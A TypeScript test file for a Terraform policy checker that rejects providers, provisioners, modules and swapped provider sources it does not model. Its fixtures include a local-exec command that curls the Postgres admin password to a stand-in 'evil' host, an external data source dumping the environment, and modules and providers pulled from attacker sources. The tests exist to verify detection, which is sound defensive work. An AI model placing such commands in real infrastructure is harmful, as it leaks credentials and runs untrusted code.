import { TerraformStack } from 'cdktf';
import { describe, expect, it } from 'vitest';
import { check, cleanDist, env, findings, freshDir, synthDist } from '../helpers';
import { copyDist, editJson } from '../support/dist-edit';
import { SANDBOX } from './cases';

/** TK022: only the postgresql and vault providers, from their pinned sources; nothing tierkit does not model. */
async function edited(edit: (j: any) => void, stack = SANDBOX) {
  const dir = copyDist(cleanDist(), freshDir('providers'));
  editJson(dir, stack, edit);
  return check(dir);
}

describe('fail closed: providers and blocks tierkit does not model (TK022)', () => {
  it('a null_resource with local-exec (escape hatch), which runs on the runner holding the admin password', async () => {
    const report = await check(synthDist((e) => env(e, 'erp', 'sandbox').addEscapeHatch((r) => {
      TerraformStack.of(r.groupRole).addOverride('resource.null_resource.x', { provisioner: [{ 'local-exec': { command: 'psql -c "GRANT erp_role TO erp_sandbox_role"' } }] });
    })));
    const msgs = findings(report, 'TK022').map((f) => `${f.pointer}: ${f.message}`);
    expect(msgs).toEqual([
      '/resource/null_resource/x: stack erp-sandbox: resource null_resource.x is of the provider "null", which tierkit does not model: nothing it does is judged',
      '/resource/null_resource/x/provisioner: stack erp-sandbox: resource null_resource.x has a provisioner block: a provisioner runs commands with the stack\'s credentials, outside every rule',
    ]);
  });

  it('a provisioner on a modelled resource (escape hatch)', async () => {
    const report = await check(synthDist((e) => env(e, 'erp', 'sandbox').addEscapeHatch((r) => {
      r.groupRole.addOverride('provisioner', [{ 'local-exec': { command: 'curl -d "$TF_VAR_pg_admin_password" https://evil' } }]);
    })));
    expect(findings(report, 'TK022').map((f) => f.pointer)).toEqual(['/resource/postgresql_role/group_role/provisioner']);
  });

  it('an external data source, an http data source, a kubernetes provider, a module and a swapped provider source (dist edits)', async () => {
    const report = await edited((j) => {
      j.data = { external: { x: { program: ['sh', '-c', 'env'] } }, http: { y: { url: 'https://evil/' } } };
      j.provider.kubernetes = [{ host: 'https://k8s' }];
      j.module = { m: { source: 'git::https://evil/m.git' } };
      j.terraform.required_providers.postgresql.source = 'evil/postgresql';
    });
    const msgs = findings(report, 'TK022').map((f) => f.message.replace('stack erp-sandbox: ', ''));
    expect(msgs.sort()).toEqual([
      'configures the provider "kubernetes"; only postgresql and vault are modelled',
      'data source data.external.x is of the provider "external", which tierkit does not model: nothing it does is judged',
      'data source data.http.y is of the provider "http", which tierkit does not model: nothing it does is judged',
      'has a top-level "module" block, which tierkit does not model',
      'takes the provider "postgresql" from "evil/postgresql", not from cyrilgdn/postgresql',
    ]);
    expect(findings(report, 'TK020')).toEqual([]);
  });

  it('cannot be suppressed', async () => {
    const report = await check(synthDist((e) => env(e, 'crm', 'dev')
      .addSuppression('TK022', 'the null resource only prints a banner, reviewed')
      .addEscapeHatch((r) => TerraformStack.of(r.groupRole).addOverride('resource.terraform_data.x', { input: 'x' }))));
    expect(findings(report, 'TK022').every((f) => !f.suppressed && f.severity === 'error')).toBe(true);
    expect(findings(report, 'TK100')).toHaveLength(1);
  });

  it('the pinned sources, written the long way, pass', async () => {
    const report = await edited((j) => {
      j.terraform.required_providers.postgresql.source = 'registry.terraform.io/cyrilgdn/postgresql';
      j.terraform.required_providers.vault.source = 'hashicorp/vault';
    });
    expect(findings(report, 'TK022')).toEqual([]);
  });
});
